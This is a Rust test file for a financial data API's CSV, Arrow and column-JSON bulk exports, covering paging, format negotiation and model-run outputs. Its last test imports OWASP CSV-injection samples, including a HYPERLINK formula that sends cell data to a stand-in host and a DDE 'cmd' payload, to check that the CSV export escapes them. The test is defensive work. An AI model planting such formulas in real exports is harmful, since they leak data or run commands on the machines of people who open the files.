//! Bulk reads in their columnar forms (issue 34): the same page as CSV, Arrow IPC and column JSON by
//! `Accept`, paged by `Link`, naming its dataset in headers; 406 for anything else; and pandas and pyarrow
//! reading the CSV and Arrow answers as they are.

use fiscus_apptest::{TestApp, problem, spawn_app};
use serde_json::{Value, json};

async fn get(app: &TestApp, path: &str, accept: &str) -> reqwest::Response {
    app.http
        .get(format!("{}{path}", app.base))
        .bearer_auth(&app.key)
        .header("accept", accept)
        .send()
        .await
        .expect("get")
}

const WEEK: &str = "/api/v2/data/instruments/SPX/prices?dataset=3&start=2008-09-15&end=2008-09-19";

#[tokio::test]
async fn a_prices_page_is_the_same_in_every_form_and_pages_by_link() {
    let app = spawn_app().await;
    app.load_demo().await;
    let json: Value = get(&app, WEEK, "application/json").await.json().await.expect("json");
    let bars = json["data"].as_array().expect("bars").clone();
    assert_eq!(bars.len(), 5);

    let r = get(&app, WEEK, "text/csv").await;
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["content-type"], "text/csv; charset=utf-8; header=present");
    assert_eq!(r.headers()["vary"], "accept");
    assert_eq!(r.headers()["fiscus-dataset"], "3");
    assert_eq!(r.headers()["fiscus-content-hash"].to_str().ok(), json["dataset"]["content_hash"].as_str());
    let csv = r.text().await.expect("csv");
    let lines: Vec<&str> = csv.split("\r\n").collect();
    assert_eq!(lines[0], "date,open,high,low,close,adj_close,volume");
    assert_eq!(lines.len(), 1 + 5 + 1, "{csv}");
    for (line, bar) in lines[1..6].iter().zip(&bars) {
        let cells: Vec<&str> = line.split(',').collect();
        assert_eq!(cells[0], bar["date"]);
        for (cell, name) in cells[1..].iter().zip(["open", "high", "low", "close", "adj_close", "volume"]) {
            assert_eq!(cell.parse::<f64>().ok(), bar[name].as_f64(), "{name} {line}");
        }
    }

    let columns: Value = get(&app, WEEK, "application/vnd.fiscus.columns+json").await.json().await.expect("columns");
    assert_eq!(columns["dataset"], json["dataset"]);
    let closes: Vec<Value> = bars.iter().map(|b| b["close"].clone()).collect();
    assert_eq!(columns["data"]["close"], Value::Array(closes));

    let arrow = get(&app, WEEK, "application/vnd.apache.arrow.stream").await;
    assert_eq!(arrow.headers()["content-type"], "application/vnd.apache.arrow.stream");
    let bytes = arrow.bytes().await.expect("arrow");
    assert_eq!(&bytes[..4], &[0xff; 4], "an IPC stream opens with a continuation marker");

    // Pages by Link: the next page's URI is the request's own with `after_id`.
    let r = get(&app, &format!("{WEEK}&limit=2"), "text/csv").await;
    let link = r.headers()["link"].to_str().expect("link").to_string();
    assert!(link.ends_with("; rel=\"next\"") && link.contains("after_id=2008-09-16"), "{link}");
    let next = link.trim_start_matches('<').split('>').next().expect("uri").to_string();
    let page = get(&app, &next, "text/csv").await.text().await.expect("csv");
    assert!(page.split("\r\n").nth(1).is_some_and(|l| l.starts_with("2008-09-17,")), "{page}");
    let last = get(&app, &format!("{WEEK}&limit=10"), "text/csv").await;
    assert!(last.headers().get("link").is_none());

    // Monthly bars come in every form too.
    let monthly = get(
        &app,
        "/api/v2/data/instruments/SPX/prices?dataset=3&interval=1mo&start=2008-01-01&end=2008-12-31",
        "text/csv",
    )
    .await;
    assert_eq!(monthly.text().await.expect("csv").split("\r\n").filter(|l| !l.is_empty()).count(), 13);

    let p = problem(get(&app, WEEK, "text/html").await, 406, "not_acceptable").await;
    assert!(p["offered"].as_array().is_some_and(|o| o.iter().any(|t| t == "text/csv")), "{p}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pandas_and_pyarrow_read_the_csv_and_arrow_answers_as_they_are() {
    let app = spawn_app().await;
    app.load_demo().await;
    let job = model_run(&app, "holt_winters", json!({ "trend": true, "horizon": 12 })).await;
    let (base, key, id) = (app.base.clone(), app.key.clone(), job["id"].as_str().expect("id").to_string());
    let out = tokio::task::spawn_blocking(move || crate::python_clients::run("read_bulk.py", &[&base, &key, &id]))
        .await
        .expect("join");
    assert!(
        out.contains("pandas csv: ok")
            && out.contains("pyarrow arrow: ok")
            && out.contains("pandas arrow: ok")
            && out.contains("economics csv and arrow: ok")
            && out.contains("model run series: ok"),
        "{out}"
    );
}

/// A model run answered in the request, on an inline series of 48 months.
async fn model_run(app: &TestApp, model: &str, parameters: Value) -> Value {
    let tenant = fiscus_domain::tenancy::Tenant {
        workspace_id: app.workspace_id.clone(),
        environment: fiscus_domain::credentials::Environment::Sandbox,
    };
    app.admin().grant_credits(&tenant, 10, "test grant").await.expect("grant");
    let values: Vec<f64> = (0..48).map(|t| 100.0 + t as f64 * 0.8 + ((t * 7) % 5) as f64 * 0.3).collect();
    let body = json!({ "input": { "values": values }, "parameters": parameters });
    let r = app.post_json(&format!("/api/v2/quant/models/{model}/run"), &app.key, &body, None).await;
    assert_eq!(r.status(), 201);
    r.json().await.expect("json")
}

#[tokio::test]
async fn a_model_runs_series_reads_as_columns_and_a_job_without_one_is_json_only() {
    let app = spawn_app().await;
    let job = model_run(&app, "holt_winters", json!({ "trend": true, "horizon": 6 })).await;
    let path = format!("/api/v2/quant/compute/jobs/{}", job["id"].as_str().expect("id"));
    let forecast = job["result"]["output"]["forecast"].as_array().expect("forecast").clone();
    let r = get(&app, &path, "text/csv").await;
    assert_eq!((r.status().as_u16(), r.headers()["vary"].to_str().ok()), (200, Some("accept")));
    let csv = r.text().await.expect("csv");
    let lines: Vec<&str> = csv.split("\r\n").filter(|l| !l.is_empty()).collect();
    assert_eq!(lines[0], "index,forecast");
    for (i, (line, f)) in lines[1..].iter().zip(&forecast).enumerate() {
        let (index, value) = line.split_once(',').expect("two cells");
        assert_eq!((index.parse::<usize>().ok(), value.parse::<f64>().ok()), (Some(i), f.as_f64()), "{line}");
    }
    assert_eq!(lines.len(), 1 + 6);
    let columns: Value = get(&app, &path, "application/vnd.fiscus.columns+json").await.json().await.expect("json");
    assert_eq!(
        (columns["object"].as_str(), &columns["data"]["forecast"]),
        (Some("model_run_series"), &json!(forecast))
    );
    let arrow = get(&app, &path, "application/vnd.apache.arrow.stream").await;
    assert_eq!(arrow.headers()["content-type"], "application/vnd.apache.arrow.stream");
    // A score per observation.
    let z = model_run(&app, "robust_z", json!({})).await;
    let path = format!("/api/v2/quant/compute/jobs/{}", z["id"].as_str().expect("id"));
    let columns: Value = get(&app, &path, "application/vnd.fiscus.columns+json").await.json().await.expect("json");
    assert_eq!(columns["data"]["scores"].as_array().map(Vec::len), Some(48), "{columns}");
    // A value at risk has no series: its job is JSON only.
    let var = model_run(&app, "historical_var", json!({})).await;
    let path = format!("/api/v2/quant/compute/jobs/{}", var["id"].as_str().expect("id"));
    let p = problem(get(&app, &path, "text/csv").await, 406, "not_acceptable").await;
    assert_eq!(p["offered"], json!(["application/json"]));
    assert_eq!(get(&app, &path, "application/json").await.status(), 200);
}

/// The ledger reads in columns too: a journals page is one CSV row per journal line (its journal's members
/// first), a transactions page one row per transaction, both paged by `Link` like their JSON.
#[tokio::test]
async fn journals_and_transactions_read_as_columns_row_for_row() {
    let app = spawn_app().await;
    app.load_demo().await;
    let journals: Value =
        get(&app, "/api/v2/finance-core/journals?limit=5", "application/json").await.json().await.expect("json");
    let lines: usize =
        journals["data"].as_array().expect("data").iter().map(|j| j["lines"].as_array().map_or(0, Vec::len)).sum();
    assert!(lines > 0, "the demo has posted journals: {journals}");
    let r = get(&app, "/api/v2/finance-core/journals?limit=5", "text/csv").await;
    assert_eq!(r.status(), 200);
    let has_more = journals["has_more"].as_bool().unwrap_or(false);
    assert_eq!(r.headers().get("link").is_some(), has_more);
    let csv = r.text().await.expect("csv");
    let rows: Vec<&str> = csv.split("\r\n").filter(|l| !l.is_empty()).collect();
    assert_eq!(
        rows[0],
        "id,uid,general_ledger_id,entity_id,entry,posting_date,status,dataset,line,account,description,debit_minor,credit_minor,currency"
    );
    assert_eq!(rows.len(), 1 + lines, "{csv}");
    let first = &journals["data"][0];
    assert!(rows[1].starts_with(&format!("{},{}", first["id"], first["uid"].as_str().expect("uid"))), "{}", rows[1]);

    let transactions: Value =
        get(&app, "/api/v2/financial/transactions?limit=7", "application/json").await.json().await.expect("json");
    let n = transactions["data"].as_array().expect("data").len();
    let columns: Value = get(&app, "/api/v2/financial/transactions?limit=7", "application/vnd.fiscus.columns+json")
        .await
        .json()
        .await
        .expect("columns");
    let amounts: Vec<Value> =
        transactions["data"].as_array().expect("data").iter().map(|t| t["amount_minor"].clone()).collect();
    assert_eq!(columns["data"]["amount_minor"], Value::Array(amounts));
    assert_eq!(columns["data"]["id"].as_array().map(Vec::len), Some(n));
    let arrow = get(&app, "/api/v2/financial/transactions?limit=7", "application/vnd.apache.arrow.stream").await;
    assert_eq!(arrow.status(), 200);
    assert_eq!(&arrow.bytes().await.expect("arrow")[..4], &[0xff; 4]);
}

#[tokio::test]
async fn imported_text_a_spreadsheet_would_run_is_escaped_in_the_csv_and_kept_as_it_is_in_json() {
    let app = spawn_app().await;
    app.load_demo().await;
    let some: Value =
        get(&app, "/api/v2/financial/transactions?limit=1", "application/json").await.json().await.expect("json");
    let account = some["data"][0]["account"].as_str().expect("an account of the demo").to_string();
    // A bank export whose free text carries formulas (OWASP's CSV Injection examples).
    let cells = ["=HYPERLINK(\"http://x.test/?\"&A1,\"click\")", "+SUM(1+1)", "@SUM(A1)", "=cmd|' /C calc'!A0"];
    let mut csv = String::from("account,id,booking_date,amount,currency,counterparty,description,reference\n");
    for (i, cell) in cells.iter().enumerate() {
        let quoted = format!("\"{}\"", cell.replace('"', "\"\""));
        csv.push_str(&format!("{account},TX-F{i},2024-01-0{},-12.50,EUR,{quoted},{quoted},-{i}\n", i + 1));
    }
    let body = json!({ "kind": "transactions", "file_name": "export.csv", "csv": csv, "source": "bank export", "licence": "proprietary" });
    let r = app.post_json("/api/v2/data/imports", &app.key, &body, None).await;
    let status = r.status();
    assert_eq!(status, 201, "{}", r.text().await.unwrap_or_default());

    let path = "/api/v2/financial/transactions?limit=100";
    let json: Value = get(&app, path, "application/json").await.json().await.expect("json");
    let imported: Vec<&Value> = json["data"]
        .as_array()
        .expect("data")
        .iter()
        .filter(|t| t["external_id"].as_str().is_some_and(|e| e.starts_with("TX-F")))
        .collect();
    assert_eq!(imported.len(), cells.len(), "{json}");
    assert!(imported.iter().any(|t| t["description"] == cells[0]), "JSON keeps the text as imported");
    let text = get(&app, path, "text/csv").await.text().await.expect("csv");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().expect("header").clone();
    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
    let (description, reference, amount) = (column("description"), column("reference"), column("amount_minor"));
    let mut seen = 0;
    for record in reader.records() {
        let record = record.expect("record");
        let Some(i) = cells.iter().position(|c| record[description].ends_with(c)) else { continue };
        seen += 1;
        // Text a spreadsheet would run starts with a `'`; numbers stay numbers.
        assert_eq!(&record[description], format!("'{}", cells[i]));
        assert!(!record[description].starts_with(['=', '+', '@', '-']));
        assert!(record[reference].starts_with("'-"), "{:?}", &record);
        assert_eq!(&record[amount], "-1250", "{:?}", &record);
    }
    assert_eq!(seen, cells.len(), "{text}");
}
